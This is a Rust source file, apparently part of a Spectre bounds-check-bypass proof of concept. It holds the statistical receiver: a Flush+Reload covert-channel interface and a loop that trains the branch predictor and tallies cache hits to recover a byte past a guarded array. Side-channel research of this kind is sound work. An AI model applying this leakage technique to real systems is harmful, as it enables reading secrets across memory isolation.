// Statistical receiver.
//
// One covert-channel round is flush, train-and-transmit, probe. A single
// round is far too noisy to trust, so extract_byte repeats it and keeps count
// of which partitions read back as cached.
//

use crate::tally::{ExtractionResult, Tally};
use crate::GUARDED_LEN;

/// The three steps of a Flush+Reload round, as seen by the receiver.
///
/// [`crate::Harness`] implements this on real hardware; tests swap in
/// scripted channels.
pub trait CovertChannel {
    /// Evict every probe partition from the cache.
    fn flush_all_partitions(&mut self);

    /// Train the victim's bounds check with `legal_index`, then let
    /// `malicious_index` through it.
    fn train_and_transmit(&mut self, legal_index: usize, malicious_index: usize);

    /// Reload every partition and mark the ones that come back fast.
    fn measure_and_mark(&mut self, tally: &mut Tally);
}

/// Recover the byte at `malicious_x` bytes past the start of the guarded
/// array, aggregating `trials` rounds.
pub fn extract_byte<C>(channel: &mut C, malicious_x: usize, trials: usize) -> ExtractionResult
where
    C: CovertChannel + ?Sized,
{
    let mut tally = Tally::new();
    for attempt in (1..=trials).rev() {
        channel.flush_all_partitions();
        // rotate the legal index so the predictor can't key off a constant
        channel.train_and_transmit(attempt % GUARDED_LEN, malicious_x);
        channel.measure_and_mark(&mut tally);
    }

    let res = tally.best_results();
    log::debug!(
        "malicious_x={:#x}: {} hits, best {:#04x}x{} runner-up {:#04x}x{}",
        malicious_x,
        tally.total(),
        res.best.value,
        res.best.score,
        res.runner_up.value,
        res.runner_up.score,
    );
    res
}
